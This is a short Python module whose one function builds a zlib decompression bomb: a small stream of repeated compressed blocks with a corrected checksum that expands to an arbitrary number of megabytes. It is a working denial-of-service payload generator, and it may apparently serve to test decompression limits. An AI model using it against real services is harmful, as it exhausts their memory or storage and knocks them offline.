"""Much in little: what unpacks to more than anybody should unpack, made in a moment."""

from __future__ import annotations

import zlib


def bomb(byte: bytes, megabytes: int) -> bytes:
    """So many times the same, as zlib packs it: a part at a time, each by itself, so that all parts are alike."""
    part = byte * (1 << 20)
    packer = zlib.compressobj(9)
    first = packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH)
    other = packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH)
    total = zlib.adler32(b"")
    for _ in range(megabytes):
        total = zlib.adler32(part, total)
    # The end of what two parts were packed into, but for its sum, which is that of all parts.
    return first + other * (megabytes - 1) + packer.flush()[:-4] + total.to_bytes(4, "big")
